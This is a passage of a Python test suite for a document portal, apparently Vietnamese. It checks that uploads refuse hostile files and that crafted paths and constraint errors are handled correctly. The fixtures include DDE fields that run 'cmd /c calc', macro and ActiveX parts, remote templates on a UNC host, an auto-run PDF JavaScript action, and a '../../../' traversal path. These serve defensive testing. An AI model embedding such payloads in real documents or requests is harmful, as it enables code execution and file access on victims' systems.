            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'attachedTemplate" Target="{target}" TargetMode="External"/>').encode()})

    macro_types = DOCX_TYPES.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                                                  b'vbaProject"/></Types>')
    xlsx_types = DOCX_TYPES.replace(b"wordprocessingml.document", b"spreadsheetml.sheet")
    cases = {
        "renamed macros": _office_file({"word/document.xml": b"<w:document/>", "word/macros.bin": b"\xd0\xcf" * 64,
                                        "word/_rels/document.xml.rels": rel("vbaProject", "macros.bin")}),
        "macros by content type": _office_file({"word/document.xml": b"<w:document/>",
                                                "word/macros.bin": b"\xd0\xcf" * 64}, macro_types),
        "macro-enabled with a decoy": _office_file({"word/document.xml": b"<w:document/>"}, DOCX_TYPES.replace(
            b"</Types>", b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.'
                         b'macroEnabled.main+xml"/></Types>')),
        "renamed control": _office_file({"word/document.xml": b"<w:document/>", "word/ctl1.xml": b"<ax/>",
                                         "word/_rels/document.xml.rels": RELS % (
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'control" Target="ctl1.xml"/>')}),
        "renamed dde link": _office_file({"xl/workbook.xml": b"<workbook/>", "xl/lien-ket.xml":
                                          b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
                                          "xl/_rels/workbook.xml.rels": RELS % (
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLink" Target="lien-ket.xml"/>')}, xlsx_types),
        "dde field over runs": _office_file({"word/document.xml": b'<w:document><w:r><w:instrText xml:space="preserve">'
                                             b' DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\'
                                             b'cmd.exe "/k calc"</w:instrText></w:r></w:document>'}),
        "dde simple field": _office_file({"word/header1.xml": b'<w:hdr><w:fldSimple w:instr="&#68;DE cmd /c calc"/>'
                                                              b'</w:hdr>', "word/document.xml": b"<w:document/>"}),
        "unc template": template("\\\\10.6.6.6\\chia-se\\mau.dotm"),
        "file host template": template("file:////10.6.6.6/chia-se/mau.dotm"),
    }
    before = _files_count(engine)
    for what, data in cases.items():
        r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
                   files={"file": (f"{what}.docx", data, "application/octet-stream")})
        assert r.status_code == 400, what
    assert _files_count(engine) == before
    fields = _office_file({"word/document.xml": '<w:document><w:r><w:instrText> PAGE </w:instrText></w:r><w:r>'
                           '<w:instrText> INCLUDEPICTURE "https://dichvucong.gov.vn/logo.png" \\* MERGEFORMATINET '
                           '</w:instrText></w:r><w:r><w:t>Địa chỉ: ADDE, HIDDEN</w:t></w:r></w:document>'.encode()})
    for honest in (template("file:///C:\\Users\\van-thu\\AppData\\Roaming\\Microsoft\\Templates\\Mẫu công văn.dotx"),
                   fields):
        r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
                   files={"file": ("theo-mau.docx", honest, "application/octet-stream")})
        assert r.status_code == 303, r.text[:300]
    assert _files_count(engine) == before + 2


def test_a_campaign_named_by_a_yaml_path_opens_no_file_of_the_server(server):
    """Guard: office.council.open_session takes only a campaign the store has launched. A YAML file of the server
    was still opened from the council's form: one that is no campaign answered otherwise than a missing one (the
    form told which exist), and a campaign file left anywhere on the server was loaded as the portal's."""
    import shutil

    base, _, data_dir = server
    admin, token = signed_in(base, "quantri")
    (data_dir / "cau-hinh.yaml").write_text("mat_khau: bi-mat\n", encoding="utf-8")
    shutil.copy("emulation/campaigns/skhcn-ninh-thuan-2024.yaml", data_dir / "phong-trao.yaml")
    answers = set()
    for path in (data_dir / "cau-hinh.yaml", data_dir / "khong-co.yaml", data_dir / "phong-trao.yaml",
                 "../../../" + str(data_dir / "cau-hinh")):
        r = admin.post("/hoi-dong/phien", data={"csrf": token, "campaign": str(path), "members": "hoidong",
                                                "meeting_on": "01/12/2099", "closes_at": "02/12/2099 10:00"})
        answers.add(r.status_code)
    assert answers == {404}, answers


def test_a_broken_constraint_other_than_a_unique_one_is_a_server_error_not_a_double_click(server):
    """Guard: web.app's handler of IntegrityError answers «bấm hai lần» (409) for a unique constraint only. It took
    every IntegrityError for a double click: a row left without its parent or a column without a value — a fault
    of the portal — was told to the user as their own double click and logged at INFO, without its traceback."""
    import sqlite3

    from sqlalchemy.exc import IntegrityError

    from portal_fixtures import serving_app
    from web.app import Settings, create_app

    _, engine, data_dir = server
    app = create_app(engine, Settings(data_dir=data_dir))

    def fault(which: str):
        raise IntegrityError("INSERT …", {}, sqlite3.IntegrityError(f"{which} constraint failed: account.role"))

    app.add_api_route("/loi/{which}", fault)
    with serving_app(app) as base:
        assert httpx.get(f"{base}/loi/UNIQUE").status_code == 409
        r = httpx.get(f"{base}/loi/NOT NULL")
        assert r.status_code == 500 and "bấm hai lần" not in r.text


def test_a_pdf_that_runs_a_script_when_opened_is_refused_over_http_naming_it(server):
    """Guard: office.evidence._pdf_inert, through the evidence upload: the page names what the PDF carries, and
    nothing is stored; an ordinary PDF is still taken."""
    from helpers import pdf_file

    base, engine, _ = server
    rid = _round(engine)
    a, token = signed_in(base, "donvi.sgddt")
    before = _files_count(engine)
    script = pdf_file(b"/OpenAction 6 0 R", packed={6: b"<< /S /JavaScript /JS (app.launchURL('http://x')) >>"})
    r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
               files={"file": ("bao-cao.pdf", script, "application/pdf")})
    assert r.status_code == 400 and "(/OpenAction, /JavaScript, /JS)" in r.text
    assert _files_count(engine) == before
    r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
               files={"file": ("bao-cao.pdf", pdf_file(b"/OpenAction [3 0 R /Fit]"), "application/pdf")})
    assert r.status_code == 303 and _files_count(engine) == before + 1
